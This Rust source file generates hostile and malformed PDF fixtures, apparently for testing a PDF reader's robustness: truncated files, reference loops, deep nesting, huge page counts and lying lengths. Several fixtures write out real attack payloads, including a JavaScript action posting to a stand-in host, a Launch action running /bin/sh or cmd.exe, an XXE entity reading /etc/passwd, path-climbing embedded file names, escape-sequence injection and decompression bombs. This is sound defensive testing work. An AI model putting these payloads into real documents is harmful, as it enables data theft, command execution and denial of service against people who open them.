//! PDFs, written object by object.

use super::{HostileFile, build::zlib, file, heavy};

const MIB: usize = 1024 * 1024;

pub(super) fn files() -> Vec<HostileFile> {
    vec![
        file("nothing", "nothing.pdf", Vec::new),
        file("one byte", "one-byte.pdf", || vec![b'%']),
        file("nothing", "only-its-first-line.pdf", || b"%PDF-1.7\n".to_vec()),
        file("cut", "cut-in-half.pdf", || half(&words("The crane goes on Thursday."))),
        file("cut", "no-table.pdf", || {
            let text = String::from_utf8_lossy(&words("The crane goes.")).replace("xref", "fref");
            text.replace("trailer", "railler").into_bytes()
        }),
        file("cut", "table-that-lies.pdf", || {
            let text = String::from_utf8_lossy(&words("The crane goes.")).into_owned();
            text.replace("0000000", "0009999").into_bytes()
        }),
        file("control bytes", "noise-after-its-first-line.pdf", || {
            [b"%PDF-1.7\n".to_vec(), (0..=255).cycle().take(60_000).collect()].concat()
        }),
        file("loops", "pages-in-a-ring.pdf", || {
            pdf(&[CATALOG, "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"], "")
        }),
        file("loops", "parent-in-a-ring.pdf", || {
            pdf(
                &[
                    CATALOG,
                    "<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>",
                    "<</Type/Page/Parent 2 0 R/Contents 3 0 R/Resources 3 0 R>>",
                ],
                "",
            )
        }),
        file("loops", "tables-in-a-ring.pdf", || {
            pdf(&[CATALOG, PAGES, PAGE, &stream("", b"BT ET")], "/Prev 20")
        }),
        file("loops", "length-of-itself.pdf", || {
            pdf(&[CATALOG, PAGES, PAGE, "<</Length 4 0 R>>\nstream\nBT ET\nendstream"], "")
        }),
        file("loops", "form-that-draws-itself.pdf", || {
            let page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>";
            let form = stream(
                "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>",
                b"/X Do /X Do",
            );
            pdf(&[CATALOG, PAGES, page, &stream("", b"/X Do"), &form], "")
        }),
        file("loops", "outline-in-a-ring.pdf", || {
            pdf(
                &[
                    "<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R/Names<</EmbeddedFiles<</Kids[5 0 R]>>>>>>",
                    PAGES,
                    "<</Type/Page/Parent 2 0 R>>",
                    "<</First 4 0 R/Next 4 0 R/Title(ring)>>",
                    "<</Kids[5 0 R 5 0 R]>>",
                ],
                "",
            )
        }),
        file("nesting", "nested-arrays.pdf", || {
            let nested = [&"[".repeat(10_000), "1", &"]".repeat(10_000)].concat();
            pdf(&[CATALOG, PAGES, PAGE, &stream("", b"BT ET"), &nested], "/Info 5 0 R")
        }),
        file("nesting", "nested-page-tree.pdf", || {
            let mut objects = vec![CATALOG.to_owned()];
            objects.extend(
                (2..3_000)
                    .map(|number| format!("<</Type/Pages/Kids[{} 0 R]/Count 1>>", number + 1)),
            );
            objects.push("<</Type/Page>>".to_owned());
            pdf(&objects.iter().map(String::as_str).collect::<Vec<_>>(), "")
        }),
        file("nesting", "nested-graphics-states.pdf", || {
            let content =
                ["q ".repeat(100_000), "[".repeat(50_000), "BT (mot) Tj ET".to_owned()].concat();
            pdf(&[CATALOG, PAGES, PAGE, &stream("", content.as_bytes())], "")
        }),
        file("password", "encrypted.pdf", || {
            encrypted("/Filter/Standard/V 2/R 3/Length 128/P -44")
        }),
        file("password", "encrypted-by-another.pdf", || encrypted("/Filter/NoSuchFilter/V 9/R 99")),
        file("many pages", "ten-thousand-pages.pdf", || pages(10_000)),
        heavy("many pages", "thirty-thousand-pages.pdf", || pages(30_000)),
        file("many pages", "count-that-lies.pdf", || {
            pdf(
                &[
                    CATALOG,
                    "<</Type/Pages/Kids[3 0 R]/Count 2000000000>>",
                    PAGE,
                    &stream("", b"BT ET"),
                ],
                "",
            )
        }),
        heavy("expansion", "thousandfold.pdf", || packed_content(64)),
        heavy("expansion", "thousandfold-large.pdf", || packed_content(1024)),
        file("expansion", "packed-twice.pdf", || {
            let packed = zlib(&zlib(&vec![b' '; 256 * MIB]));
            binary(&[CATALOG, PAGES, PAGE], "/Filter[/FlateDecode/FlateDecode]", &packed)
        }),
        file("expansion", "length-that-lies.pdf", || {
            pdf(&[CATALOG, PAGES, PAGE, "<</Length 2147483647>>\nstream\nBT ET\nendstream"], "")
        }),
        file("expansion", "page-of-a-mile.pdf", || {
            let page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e9 1e9]/Contents 4 0 R>>";
            pdf(&[CATALOG, PAGES, page, &stream("", b"BT ET")], "")
        }),
        file("scripts", "javascript.pdf", || {
            pdf(
                &[
                    "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('http://x.example'\\))>>>>",
                    PAGES,
                    PAGE,
                    &stream("", CONTENT),
                    FONT,
                ],
                "",
            )
        }),
        file("scripts", "launch.pdf", || {
            pdf(
                &[
                    "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>/AA<</WC<</S/URI/URI(http://x.example)>>>>>>",
                    PAGES,
                    PAGE,
                    &stream("", CONTENT),
                    FONT,
                ],
                "",
            )
        }),
        file("entities", "form-with-an-entity.pdf", || {
            let xfa = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><xdp>&e;</xdp>";
            pdf(
                &[
                    "<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 6 0 R/Fields[]>>>>",
                    PAGES,
                    PAGE,
                    &stream("", CONTENT),
                    FONT,
                    &stream("", xfa),
                ],
                "",
            )
        }),
        file("climbing names", "embedded-files.pdf", || {
            pdf(
                &[
                    "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)6 0 R(b)6 0 R]>>>>>>",
                    PAGES,
                    PAGE,
                    &stream("", CONTENT),
                    FONT,
                    "<</Type/Filespec/F(../../climbed.txt)/UF(/etc/climbed.txt)/EF<</F 7 0 R>>>>",
                    &stream("/Type/EmbeddedFile", b"The embedded crane."),
                ],
                "",
            )
        }),
        file("no text", "no-text.pdf", || {
            pdf(&[CATALOG, PAGES, PAGE, &stream("", b"0 0 100 100 re f")], "")
        }),
        file("no text", "no-pages.pdf", || pdf(&[CATALOG, "<</Type/Pages/Kids[]/Count 0>>"], "")),
        file("markup and escapes", "title-with-escapes.pdf", || {
            pdf(
                &[
                    CATALOG,
                    PAGES,
                    PAGE,
                    &stream("", CONTENT),
                    FONT,
                    "<</Title(\u{1b}[2J<script>alert\\(1\\)</script>\\033]0;owned\\007)/Author(a\\000b)/CreationDate(D:20193399999999Z)>>",
                ],
                "/Info 6 0 R",
            )
        }),
        file("impossible dates", "dates.pdf", || {
            pdf(
                &[
                    CATALOG,
                    PAGES,
                    PAGE,
                    &stream("", CONTENT),
                    FONT,
                    "<</CreationDate(D:99999999999999+99'99)/ModDate(yesterday)>>",
                ],
                "/Info 6 0 R",
            )
        }),
    ]
}

const CATALOG: &str = "<</Type/Catalog/Pages 2 0 R>>";
const PAGES: &str = "<</Type/Pages/Kids[3 0 R]/Count 1>>";
const PAGE: &str = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>";
const FONT: &str = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>";
const CONTENT: &[u8] = b"BT /F 12 Tf 20 200 Td (The crane goes on Thursday.) Tj ET";

/// A page with words.
fn words(text: &str) -> Vec<u8> {
    let content = format!("BT /F 12 Tf 20 200 Td ({text}) Tj ET");
    pdf(&[CATALOG, PAGES, PAGE, &stream("", content.as_bytes()), FONT], "")
}

fn pages(count: usize) -> Vec<u8> {
    let kids: String = (0..count).map(|number| format!("{} 0 R ", number + 5)).collect();
    let tree = format!("<</Type/Pages/Kids[{kids}]/Count {count}>>");
    let content = stream("", CONTENT);
    let mut objects = vec![CATALOG, &tree, FONT, &content];
    let page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F 3 0 R>>>>>>";
    objects.extend(std::iter::repeat_n(page, count));
    pdf(&objects, "")
}

fn encrypted(dictionary: &str) -> Vec<u8> {
    let secret = format!("<<{dictionary}/O<{0}>/U<{0}>>>", "5a".repeat(32));
    pdf(&[CATALOG, PAGES, PAGE, &stream("", CONTENT), FONT, &secret], "/Encrypt 6 0 R/ID[<00><00>]")
}

/// A page whose content is so many MiB of one operator.
fn packed_content(mebibytes: usize) -> Vec<u8> {
    let packed = zlib(&b"BT (mot) Tj ET\n ".repeat(mebibytes * MIB / 16));
    binary(&[CATALOG, PAGES, PAGE], "/Filter/FlateDecode", &packed)
}

fn stream(entries: &str, bytes: &[u8]) -> String {
    let content = String::from_utf8_lossy(bytes);
    format!("<<{entries}/Length {}>>\nstream\n{content}\nendstream", content.len())
}

/// Writes a PDF of objects numbered from 1; the last one is a stream of any bytes.
fn binary(objects: &[&str], entries: &str, bytes: &[u8]) -> Vec<u8> {
    let head = format!("<<{entries}/Length {}>>\nstream\n", bytes.len());
    let last = [head.as_bytes(), bytes, b"\nendstream"].concat();
    let all: Vec<&[u8]> = objects.iter().map(|it| it.as_bytes()).chain([last.as_slice()]).collect();
    write(&all, "")
}

/// Writes a PDF of objects numbered from 1.
fn pdf(objects: &[&str], trailer: &str) -> Vec<u8> {
    write(&objects.iter().map(|object| object.as_bytes()).collect::<Vec<_>>(), trailer)
}

fn write(objects: &[&[u8]], trailer: &str) -> Vec<u8> {
    let mut file = b"%PDF-1.7\n".to_vec();
    let mut table = String::from("0000000000 65535 f \n");
    for (number, object) in (1..).zip(objects) {
        table += &format!("{:010} 00000 n \n", file.len());
        file.extend(format!("{number} 0 obj\n").into_bytes());
        file.extend_from_slice(object);
        file.extend(b"\nendobj\n");
    }
    let (start, size) = (file.len(), objects.len() + 1);
    file.extend(
        format!(
            "xref\n0 {size}\n{table}trailer\n<</Size {size}/Root 1 0 R{trailer}>>\nstartxref\n{start}\n%%EOF\n"
        )
        .into_bytes(),
    );
    file
}

fn half(bytes: &[u8]) -> Vec<u8> {
    bytes.iter().copied().take(bytes.len() / 2).collect()
}
